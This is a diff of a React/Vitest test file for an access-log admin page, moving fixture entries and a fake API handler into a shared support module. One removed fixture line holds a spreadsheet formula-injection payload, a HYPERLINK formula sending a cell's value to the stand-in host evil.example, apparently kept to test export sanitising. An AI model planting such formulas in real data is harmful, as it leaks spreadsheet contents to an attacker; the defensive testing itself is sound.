@@ -1,65 +1,14 @@
 import { render, screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { describe, expect, it, vi } from 'vitest';
-import type { AccessLogEntry } from '../../contract/accessLog';
 import { API_PATHS } from '../../contract/paths';
 import { formatDateTime } from '../../src/dates';
+import { accessLogHandler, ACCESS_LOG_ENTRIES as ENTRIES } from '../support/fakeAccessLogApi';
 import { buildUser, menuForRole } from '../support/fakeApi';
-import { type FakeRequest, page } from '../support/fakeApiRules';
-import { type FakeHandler, HandlersHarness } from '../support/HandlersHarness';
+import { HandlersHarness } from '../support/HandlersHarness';
 import { catchDownloads } from './support/downloads';
 import { enterText } from './support/enterText';
 import { bodyRowsOf } from './support/tables';
-
-const entry = (id: number, overrides: Partial<AccessLogEntry>): AccessLogEntry => ({
-  id,
-  at: `2026-11-2${id}T09:00:00.000Z`,
-  actor: 'ada',
-  action: 'GET /api/continuous-monitoring/cases/details/:id',
-  resource: 'cases',
-  resourceId: '42',
-  outcome: 'ok',
-  details: {},
-  caseNumber: 'MVH-2026-0042',
-  summary: 'opened case MVH-2026-0042',
-  ...overrides,
-});
-
-const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
-
-const ENTRIES = [
-  entry(1, {
-    actor: 'anonymous',
-    action: 'GET /api/chrome',
-    resource: 'api',
-    resourceId: null,
-    outcome: 'denied',
-    // What a refused token claimed: anyone can write a spreadsheet formula there.
-    details: { status: 401, reason: 'Invalid tokens.', unverifiedUser: FORMULA },
-    caseNumber: null,
-    summary: 'tried to read /chrome',
-  }),
-  entry(2, {
-    actor: 'grace',
-    action: 'GET /api/continuous-monitoring/cases/intake',
-    resourceId: null,
-    details: { caseIds: [42, 43] },
-    caseNumber: null,
-    summary: 'listed cases in intake: MVH-2026-0042, MVH-2026-0043',
-  }),
-  entry(3, { actor: 'grace' }),
-];
-
-/** GET /access-log over the entries above, filtered by user and case number as the server does. */
-const accessLogHandler: FakeHandler = ({ method, path, query = {} }: FakeRequest) => {
-  if (method !== 'GET' || path !== API_PATHS.accessLog) return undefined;
-  const rows = ENTRIES.filter(
-    (row) =>
-      (!query.actor || row.actor === query.actor) &&
-      (!query.caseNumber || row.summary.includes(String(query.caseNumber).toUpperCase())),
-  );
-  return page(rows, query, 'at');
-};
 
 const renderPage = (onRequest = vi.fn()) =>
   render(
@@ -67,7 +16,7 @@ const renderPage = (onRequest = vi.fn()) =>
       path={API_PATHS.accessLog}
       chrome={menuForRole('admin')}
       user={buildUser()}
-      handlers={[accessLogHandler]}
+      handlers={[accessLogHandler(ENTRIES)]}
       onRequest={onRequest}
     />,
   );
